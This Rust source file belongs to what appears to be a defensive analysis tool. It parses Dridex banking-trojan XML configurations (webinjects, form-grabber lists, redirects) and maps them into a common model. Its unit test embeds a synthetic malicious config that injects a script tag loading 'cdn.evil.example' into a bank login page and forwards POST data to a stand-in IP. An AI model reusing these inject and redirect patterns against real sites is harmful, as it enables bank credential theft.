//! Dridex (Cridex from 2012 on) XML configurations (webinjects.md §3).
//!
//! Tokens seen in pastes of bots 120/200/220: `<settings hash=…>`, `<httpshots>`,
//! `<formgrabber>`, `<httpinjblock>`, `<httpblock>` holding `<url type="allow|deny" onget="1"
//! onpost="1">REGEX</url>`, and `<redirect name=… vnc=… socks=… postfwd=… uri="http://IP:port/…"
//! timeout=…>pattern</redirect>`. The `<httpinjects><httpinject><conditions>…<actions><modify>
//! <pattern>/<replacement>` CDATA shape is unverified (from memory, §3), so unknown elements are
//! tolerated with a warning. **URL patterns are PCRE regexes**, so every entry has
//! `mask_kind: Regex`. No real file is public: the tests use small synthetic inputs built from
//! the token list above.
//!
//! Mapping into [`Inject`] (`format: DridexXml`):
//! - `<httpinject>` → one entry: `url_mask` = the first `allow` `<url>` of its `<conditions>`;
//!   flags from that `<url>`'s `onget`/`onpost` (`G`, `P`; both when neither is given); the
//!   other conditions become attributes `url_allow` / `url_deny`; each `<modify>` becomes a
//!   block with `before` = the `<pattern>` regex, `inject` = the `<replacement>` (which may use
//!   `$1`-style groups: the match of `before` is *replaced* by `inject`) and `after` empty.
//! - `<redirect>` → one entry: `url_mask` = its text, `endpoints` = `[uri]`, its other XML
//!   attributes (`name`, `vnc`, `socks`, `postfwd`, `timeout`...) as attributes, flags `GP`.
//! - a `<url>` of `<formgrabber>`, `<httpshots>`, `<httpinjblock>`, `<httpblock>` (or another
//!   list) → one entry with attributes `list` (the list's element name) and `type`: an `allow`
//!   in `<formgrabber>` or `<httpshots>` is a grab (flags `L` plus its verbs); a `deny`, or any
//!   entry of a block list, has no flags: it is an exclusion, never applied to a page.
//!
//! Codes: D001 httpinject without a URL condition, D002 modify without pattern or replacement,
//! D003 redirect without uri, D004 unknown element, D005 no Dridex element found, D006 entry
//! cut off by the end of the document; X0xx from the shared XML reader.

use dropwatch_model::{Inject, InjectBlock, InjectFormat, MaskKind};

use crate::common::SourceFormat;
pub use crate::common::{Diagnostic, Mode, ParseOutput, Severity};
use crate::xml::{self, Doc};

/// Root element names that mark a Dridex configuration.
pub(crate) const ROOTS: &[&str] = &[
    "settings",
    "httpinjects",
    "httpinject",
    "redirect",
    "redirects",
];

/// Lists of `<url>` entries whose `allow` entries are grabs.
const GRAB_LISTS: &[&str] = &["formgrabber", "httpshots"];

const MAX_UNKNOWN_NAMES: usize = 32;

/// Entries never nest; URL patterns and actions' parts hold only text.
const RULES: xml::Rules = xml::Rules {
    siblings: &["httpinject", "redirect", "modify", "conditions", "actions"],
    leaves: &["url", "pattern", "replacement", "redirect"],
};

/// Parses a Dridex XML configuration.
///
/// Never panics; memory is linear in the input. [`Mode::Strict`] fails on the first error;
/// [`Mode::Tolerant`] keeps every entry it saw.
pub fn parse_dridex(input: &[u8], mode: Mode) -> Result<ParseOutput, Diagnostic> {
    let mut doc = xml::parse(input, &RULES);
    let mut injects = Vec::new();
    let mut unknown: Vec<String> = Vec::new();
    let mut found_any = false;

    for id in 0..doc.nodes.len() {
        let name = doc.name(id).to_string();
        let parent = doc.parent_name(id).unwrap_or("").to_string();
        let known = match name.as_str() {
            "settings" | "httpinjects" | "redirects" | "conditions" | "actions" => true,
            "httpinject" => {
                injects.push(httpinject(&mut doc, id));
                true
            }
            "redirect" => {
                injects.push(redirect(&mut doc, id));
                true
            }
            "url" if parent == "conditions" || parent == "httpinject" => true,
            "url" => {
                injects.push(list_url(&mut doc, id, &parent));
                true
            }
            "modify" | "pattern" | "replacement" => {
                matches!(parent.as_str(), "actions" | "modify" | "httpinject")
            }
            n if GRAB_LISTS.contains(&n) || n == "httpinjblock" || n == "httpblock" => true,
            // An element holding <url> entries is a list even when its name is new.
            _ => doc.children(id).any(|c| doc.name(c) == "url"),
        };
        found_any |= known;
        if !known {
            warn_unknown(&mut doc, id, &mut unknown);
        }
    }
    if !found_any && !doc.broken {
        doc.diags.error(
            (1, 1),
            "D005",
            "no Dridex element (settings, httpinjects, redirect, url lists) found",
        );
    }
    xml::finish(doc, injects, mode, SourceFormat::DridexXml)
}

fn warn_unknown(doc: &mut Doc, id: usize, seen: &mut Vec<String>) {
    let name = doc.name(id);
    if seen.len() < MAX_UNKNOWN_NAMES && !seen.iter().any(|s| s == name) {
        let msg = match doc.parent_name(id) {
            Some(p) => format!("unknown element <{name}> in <{p}>; ignored"),
            None => format!("unknown element <{name}>; ignored"),
        };
        seen.push(name.to_string());
        let pos = doc.pos(id);
        doc.diags.warn(pos, "D004", msg);
    }
}

fn base(doc: &Doc, id: usize) -> Inject {
    Inject {
        format: InjectFormat::DridexXml,
        mask_kind: MaskKind::Regex,
        line: Some(doc.line(id)),
        ..Inject::default()
    }
}

/// `G` for `onget="1"`, `P` for `onpost="1"`; both when neither attribute is present.
fn verbs(doc: &Doc, id: usize) -> String {
    let get = doc.attr(id, "onget");
    let post = doc.attr(id, "onpost");
    if get.is_none() && post.is_none() {
        return "GP".to_string();
    }
    let mut f = String::new();
    if get.is_some_and(|v| v.trim_ascii() == b"1") {
        f.push('G');
    }
    if post.is_some_and(|v| v.trim_ascii() == b"1") {
        f.push('P');
    }
    f
}

fn is_deny(doc: &Doc, id: usize) -> bool {
    doc.attr(id, "type")
        .is_some_and(|t| t.trim_ascii().eq_ignore_ascii_case(b"deny"))
}

fn mark_truncated(doc: &mut Doc, id: usize, inject: &mut Inject) {
    if !doc.nodes[id].closed {
        let pos = doc.pos(id);
        let msg = format!(
            "<{}> is cut off by the end of the document; kept with what was read",
            doc.name(id)
        );
        doc.diags.warn(pos, "D006", msg);
        inject
            .attributes
            .push(("truncated".to_string(), "true".to_string()));
    }
}

fn httpinject(doc: &mut Doc, id: usize) -> Inject {
    let mut inject = base(doc, id);
    let mut mask: Option<usize> = None;
    let mut conditions = Vec::new();
    let mut modifies = Vec::new();
    for c in doc.children(id).collect::<Vec<_>>() {
        match doc.name(c) {
            "conditions" => conditions.extend(doc.children(c).filter(|&u| doc.name(u) == "url")),
            "url" => conditions.push(c),
            "actions" => modifies.extend(doc.children(c).filter(|&m| doc.name(m) == "modify")),
            "modify" => modifies.push(c),
            _ => {}
        }
    }
    for &u in &conditions {
        if mask.is_none() && !is_deny(doc, u) {
            mask = Some(u);
            inject.url_mask = doc.text_string(u);
            inject.flags = verbs(doc, u);
        } else {
            let key = if is_deny(doc, u) {
                "url_deny"
            } else {
                "url_allow"
            };
            inject
                .attributes
                .push((key.to_string(), doc.text_string(u)));
        }
    }
    if mask.is_none() {
        let pos = doc.pos(id);
        doc.diags.push(
            pos,
            if doc.nodes[id].closed {
                Severity::Error
            } else {
                Severity::Warning
            },
            "D001",
            "<httpinject> has no allow <url> condition; kept with an empty mask",
        );
    }
    for m in modifies {
        let mut pattern = None;
        let mut replacement = None;
        for c in doc.children(m) {
            match doc.name(c) {
                "pattern" => pattern = Some(c),
                "replacement" => replacement = Some(c),
                _ => {}
            }
        }
        if pattern.is_none() || replacement.is_none() {
            let pos = doc.pos(m);
            doc.diags.push(
                pos,
                if doc.nodes[m].closed {
                    Severity::Error
                } else {
                    Severity::Warning
                },
                "D002",
                "<modify> needs both <pattern> and <replacement>; the missing one is empty",
            );
        }
        // CDATA content is kept raw: no trimming, it is attacker code.
        inject.blocks.push(InjectBlock {
            before: pattern
                .map(|p| std::mem::take(&mut doc.nodes[p].text))
                .unwrap_or_default(),
            inject: replacement
                .map(|r| std::mem::take(&mut doc.nodes[r].text))
                .unwrap_or_default(),
            after: Vec::new(),
        });
    }
    mark_truncated(doc, id, &mut inject);
    inject
}

fn redirect(doc: &mut Doc, id: usize) -> Inject {
    let mut inject = base(doc, id);
    inject.url_mask = doc.text_string(id);
    inject.flags = verbs(doc, id);
    let attrs = std::mem::take(&mut doc.nodes[id].attrs);
    for (name, value) in attrs {
        let value = doc.decode(value.trim_ascii());
        match name.as_str() {
            "uri" if !value.is_empty() => inject.endpoints.push(value),
            "onget" | "onpost" => {}
            _ => inject.attributes.push((name, value)),
        }
    }
    if inject.endpoints.is_empty() {
        let pos = doc.pos(id);
        doc.diags.push(
            pos,
            if doc.nodes[id].closed {
                Severity::Error
            } else {
                Severity::Warning
            },
            "D003",
            "<redirect> has no uri attribute",
        );
    }
    mark_truncated(doc, id, &mut inject);
    inject
}

fn list_url(doc: &mut Doc, id: usize, list: &str) -> Inject {
    let mut inject = base(doc, id);
    inject.url_mask = doc.text_string(id);
    let deny = is_deny(doc, id);
    let grab_list = GRAB_LISTS.contains(&list);
    if !deny && grab_list {
        inject.flags = format!("{}L", verbs(doc, id));
    }
    inject
        .attributes
        .push(("list".to_string(), list.to_string()));
    let kind = doc
        .attr(id, "type")
        .map(|t| doc.decode(t.trim_ascii()))
        .unwrap_or_else(|| "allow".to_string());
    inject.attributes.push(("type".to_string(), kind));
    mark_truncated(doc, id, &mut inject);
    inject
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Synthetic: built from the token list of webinjects.md §3 (no Dridex config is public).
    const SETTINGS: &[u8] = br#"<settings hash="0123456789abcdef">
  <httpshots>
    <url type="deny" onget="1" onpost="1">\.(css|js|gif|jpg|png)($|\?)</url>
    <url type="allow" onpost="1">https://ib\.bank\.example/transfer.*</url>
  </httpshots>
  <formgrabber>
    <url type="allow" onget="1" onpost="1">.*bank\.example.*</url>
    <url type="deny">.*google\.com.*</url>
  </formgrabber>
  <redirects>
    <redirect name="bank1.js" vnc="0" socks="0" postfwd="1" uri="http://192.0.2.10:8080/bank1/" timeout="20">https://ib\.bank\.example/js/main.*\.js</redirect>
  </redirects>
  <httpinjects>
    <httpinject>
      <conditions>
        <url type="allow" onget="1"><![CDATA[https://ib\.bank\.example/login.*]]></url>
        <url type="deny"><![CDATA[.*\.(css|js)]]></url>
      </conditions>
      <actions>
        <modify>
          <pattern><![CDATA[(<head[^>]*>)]]></pattern>
          <replacement><![CDATA[$1<script src="https://cdn.evil.example/a.js"></script>
]]></replacement>
        </modify>
      </actions>
    </httpinject>
  </httpinjects>
  <httpinjblock><url type="allow">.*bank\.example/logout.*</url></httpinjblock>
</settings>
"#;

    #[test]
    fn settings_mapping() {
        let out = parse_dridex(SETTINGS, Mode::Strict).unwrap();
        assert_eq!(out.format, SourceFormat::DridexXml);
        assert!(out.diagnostics.is_empty(), "{:?}", out.diagnostics);
        assert!(out.injects.iter().all(|i| i.mask_kind == MaskKind::Regex));
        let summary: Vec<(&str, &str, Option<&str>)> = out
            .injects
            .iter()
            .map(|i| {
                let list = i
                    .attributes
                    .iter()
                    .find(|(k, _)| k == "list")
                    .map(|(_, v)| v.as_str());
                (i.url_mask.as_str(), i.flags.as_str(), list)
            })
            .collect();
        assert_eq!(
            summary,
            [
                (r"\.(css|js|gif|jpg|png)($|\?)", "", Some("httpshots")),
                (
                    r"https://ib\.bank\.example/transfer.*",
                    "PL",
                    Some("httpshots")
                ),
                (r".*bank\.example.*", "GPL", Some("formgrabber")),
                (r".*google\.com.*", "", Some("formgrabber")),
                (r"https://ib\.bank\.example/js/main.*\.js", "GP", None),
                (r"https://ib\.bank\.example/login.*", "G", None),
                (r".*bank\.example/logout.*", "", Some("httpinjblock")),
            ]
        );
        let redirect = &out.injects[4];
        assert_eq!(redirect.endpoints, ["http://192.0.2.10:8080/bank1/"]);
        assert!(redirect
            .attributes
            .contains(&("postfwd".into(), "1".into())));
        let inj = &out.injects[5];
        assert_eq!(inj.line, Some(14));
        assert_eq!(
            inj.attributes,
            [("url_deny".to_string(), r".*\.(css|js)".to_string())]
        );
        assert_eq!(inj.blocks.len(), 1);
        assert_eq!(inj.blocks[0].before, b"(<head[^>]*>)");
        assert_eq!(
            inj.blocks[0].inject,
            b"$1<script src=\"https://cdn.evil.example/a.js\"></script>\n"
        );
    }

    #[test]
    fn unknown_elements_and_missing_parts() {
        let src = br#"<settings><botnet>7</botnet><httpinjects><httpinject><actions><modify><pattern>x</pattern></modify></actions></httpinject></httpinjects><redirect name="r">.*</redirect></settings>"#;
        let out = parse_dridex(src, Mode::Tolerant).unwrap();
        assert_eq!(out.injects.len(), 2);
        let codes: Vec<_> = out.diagnostics.iter().map(|d| d.code).collect();
        for c in ["D001", "D002", "D003", "D004"] {
            assert!(codes.contains(&c), "{c} in {codes:?}");
        }
        assert_eq!(parse_dridex(src, Mode::Strict).unwrap_err().code, "D001");
    }
}
